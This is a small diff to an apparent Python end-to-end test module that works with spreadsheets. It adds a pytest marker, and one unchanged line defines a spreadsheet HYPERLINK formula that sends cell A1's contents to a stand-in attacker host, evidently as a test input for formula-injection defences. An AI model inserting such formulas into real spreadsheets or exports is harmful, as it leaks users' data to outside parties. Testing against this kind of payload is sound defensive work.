@@ -9,10 +9,13 @@ import io
 from html.parser import HTMLParser
 from pathlib import Path
 
+import pytest
 from openpyxl import load_workbook
 
 from tests.conftest import aid_yaml, make_project, mkdocs
 from tests.test_validate_agrees import SURVEY_TABLE, _csv, with_survey
+
+pytestmark = pytest.mark.e2e  # every test here runs a real build
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"clic")'
 
